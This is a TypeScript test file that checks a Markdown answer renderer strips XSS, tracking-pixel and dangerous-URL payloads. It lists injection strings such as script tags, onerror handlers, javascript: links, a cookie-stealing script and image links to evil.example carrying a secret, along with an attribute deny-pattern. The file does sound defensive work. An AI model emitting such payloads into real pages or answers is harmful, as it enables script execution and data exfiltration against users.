import { parseHTML } from 'linkedom'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Markdown } from './Markdown'
import { outsideHost } from './OutsideLink'

/** What a document or a model could put into an answer to make the window fetch, run or disguise something. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![tracker](https://evil.example/pixel.png?q=secret)',
  '![inline](data:image/svg+xml,<svg onload=alert(1)>)',
  '![ref][a]\n\n[a]: https://evil.example/pixel.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt&colon;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox)',
  '[click](file:///etc/passwd)',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>alert(1)</script></svg>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>ok</button></form>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<base href="https://evil.example/">',
  '<details ontoggle=alert(1) open>x</details>',
  'https://evil.example/auto?leak=1',
  '<https://evil.example/angle>',
  '| a |\n|---|\n| ![x](https://evil.example/cell.png) |',
  '- [x] ![t](https://evil.example/task.png)',
  '[^1]\n\n[^1]: ![f](https://evil.example/foot.png)',
  '<cite number="1" onclick="alert(1)">fake</cite>',
  '"><script>alert(document.cookie)</script>',
  '```html\n<script>alert(1)</script>\n```',
]

const allowed = new Set(
  'a blockquote br button cite code del div em h1 h2 h3 h4 h5 h6 hr li ol p path pre section span strong sup svg table tbody td th thead tr ul'.split(
    ' ',
  ),
)

function render(text: string): Element[] {
  const html = renderToStaticMarkup(<Markdown text={text} chip={(number) => <cite>{number}</cite>} />)
  return [...parseHTML(`<html><body>${html}</body></html>`).document.body.querySelectorAll('*')]
}

describe('an answer', () => {
  it.each(payloads)('shows %j without anything that runs or fetches', (payload) => {
    for (const element of render(payload)) {
      expect(allowed, element.outerHTML).toContain(element.tagName.toLowerCase())
      for (const { name, value } of [...element.attributes]) {
        expect(name.toLowerCase()).not.toMatch(
          /^on|^(src|srcset|style|action|formaction|background|poster|data|xlink:href|http-equiv|ping)$/,
        )
        expect(name === 'href' ? value : '#').toMatch(/^#/)
      }
    }
  })

  it('keeps the structure of its Markdown', () => {
    const tags = render('# Title\n\n- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |').map((element) => element.tagName.toLowerCase())
    expect(tags).toEqual(expect.arrayContaining(['h1', 'ul', 'li', 'strong', 'table', 'td']))
  })

  it('names the host of a link and makes it a button, so that nothing opens by itself', () => {
    const [button] = render('[the bank](https://bank.example.evil.test/login)').filter(({ tagName }) => tagName === 'BUTTON')
    expect(button?.textContent).toBe('the bank(bank.example.evil.test)')
  })
})

describe('the host of an address', () => {
  it.each([
    ['https://example.org/x', 'example.org'],
    ['https://user:pass@evil.test/', 'evil.test'],
    ['https://аpple.com/', 'xn--pple-43d.com'],
    ['mailto:a@example.org', 'a@example.org'],
    ['javascript:alert(1)', null],
    ['file:///etc/passwd', null],
    ['ms-msdt:/id', null],
    ['//evil.test', null],
    ['', null],
  ])('of %j is %j', (href, host) => {
    expect(outsideHost(href)).toBe(host)
  })
})
